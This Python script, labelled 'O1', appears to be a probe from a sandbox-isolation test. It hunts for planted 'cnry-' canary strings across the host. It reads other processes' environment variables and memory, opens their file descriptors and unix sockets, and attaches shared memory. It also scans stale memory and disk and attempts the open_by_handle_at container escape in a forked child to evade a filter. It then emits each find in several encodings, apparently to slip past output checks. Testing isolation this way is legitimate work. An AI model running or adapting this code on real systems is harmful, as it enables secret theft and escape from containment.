# O1: hunts for anything that looks like a planted nonce, wherever a program can read, and sends out what it finds.
# Arguments: paths that it was told to try (an attacker may know them).
import base64, gzip, mmap
NONCE = re.compile(b"c[n]ry-[0-9a-f]{64}")
found = {}


def search(where, data):
    if isinstance(data, str):
        data = data.encode("utf-8", "surrogateescape")
    if isinstance(data, (bytes, bytearray)):
        for nonce in NONCE.findall(data):
            found.setdefault(bytes(nonce), where)


def contents(path, most=1 << 22):
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
    try:
        return os.read(descriptor, most)
    finally:
        os.close(descriptor)


def memory(pid):
    for line in open(f"/proc/{pid}/maps"):
        low, high = (int(part, 16) for part in line.split()[0].split("-"))
        if line.split()[1][0] == "r" and high - low <= 1 << 26 and "[v" not in line:
            with open(f"/proc/{pid}/mem", "rb", 0) as space:
                space.seek(low)
                search(f"memory of {pid}", attempt(space.read, high - low))


def processes():
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        for name in ("environ", "cmdline", "mountinfo", "status", "stack", "auxv", "net/unix", "net/tcp", "attr/current", "timers"):
            search(f"{name} of {pid}", attempt(contents, f"/proc/{pid}/{name}"))
        for number in range(64):
            search(f"descriptor of {pid}", attempt(os.readlink, f"/proc/{pid}/fd/{number}"))
            search(f"descriptor of {pid}", attempt(contents, f"/proc/{pid}/fd/{number}"))
        if int(pid) != os.getpid():
            attempt(memory, pid)


def files(top):
    for folder, folders, names in os.walk(top):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys", "/usr", "/lib", "/mnt/old")]
        for name in names:
            path = os.path.join(folder, name)
            search(path, path)
            if not path.startswith("/dev/") or "--devices" in sys.argv:
                search(path, attempt(contents, path))
            for key in attempt(os.listxattr, path) if isinstance(attempt(os.listxattr, path), list) else []:
                search(path, attempt(os.getxattr, path, key))


def told(paths):
    roots = ["", "/proc/self/root", "/proc/1/root", "/proc/1/cwd", f"/proc/{os.getppid()}/root", "/proc/self/cwd/" + "../" * 20, "/mnt/old"]
    for path in paths:
        for root in roots:
            search(path, attempt(contents, root + path))
            for folder, _, names in os.walk(root + path) if root + path != "/" else []:
                for name in names:
                    search(path, attempt(contents, os.path.join(folder, name)))


def handles(paths):
    """Files by handle: the root folder of whatever file system this is, then names from there."""
    for start in (b"/", b"/tmp", b"/data", b"/run/bailey/agent"):
        mount = attempt(os.open, start, os.O_RDONLY)
        for inode in (2, 1, 5, 64, 128, 256):
            handle = ctypes.create_string_buffer(struct.pack("=IiQ", 8, 1, inode), 16)
            descriptor = attempt(syscall, 304, mount if isinstance(mount, int) else -100, handle, 0)
            if isinstance(descriptor, tuple) and descriptor[0] >= 0:
                for path in paths:
                    search(path, attempt(contents, f"/proc/self/fd/{descriptor[0]}{path}"))


def lines():
    """Sockets that others listen on, and shared memory."""
    table = attempt(contents, "/proc/net/unix")
    for row in table.split(b"\n") if isinstance(table, bytes) else []:
        name = row.split()[-1:] or [b""]
        if name[0].startswith((b"@", b"/")):
            def ask():
                with socket.socket(socket.AF_UNIX) as end:
                    end.settimeout(0.3)
                    end.connect(name[0].replace(b"@", b"\0", 1))
                    return end.recv(65536)
            search("a unix socket", attempt(ask))
    libc.shmat.restype = ctypes.c_void_p
    for number in range(64):
        address = libc.shmat(number, None, 0o10000)
        if address not in (None, ctypes.c_void_p(-1).value):
            search("shared memory", attempt(ctypes.string_at, address, 4096))


def stale():
    """Memory and disk that someone else may have used before."""
    for _ in range(24):
        view = mmap.mmap(-1, 1 << 23)
        search("fresh memory", view[:])
    with open("/tmp/stale", "wb") as out:
        attempt(os.posix_fallocate, out.fileno(), 0, 1 << 25)
    search("a fresh file", attempt(contents, "/tmp/stale", 1 << 25))
    for top in ("/proc",):
        for name in os.listdir(top):
            if not name.isdigit() and os.path.isfile(f"{top}/{name}") and name not in ("kmsg", "kcore", "kpagecount", "kpageflags", "sysrq-trigger", "kpagecgroup"):
                search(name, attempt(contents, f"{top}/{name}"))


search("the environment", repr(dict(os.environ)))
search("the arguments", repr(sys.argv))
paths = [path for path in sys.argv[1:] if path.startswith("/")]
for act in (processes, lines, stale, lambda: files("/"), lambda: told(paths)):
    outcome = attempt(act)
    if outcome is not None:
        print("stopped:", outcome)
sys.stdout.flush()
# In a child: a filter may end whoever opens files by handle.
hunter = os.fork()
if hunter == 0:
    attempt(handles, paths)
else:
    os.waitpid(hunter, 0)
for nonce, where in found.items():
    print("found", where, nonce.decode())
    print(base64.b64encode(nonce).decode(), nonce.hex(), nonce[::-1].decode())
    sys.stdout.flush()
    os.write(1, gzip.compress(nonce * 2) + b"\n")
print("hunted" if hunter else "", flush=True)
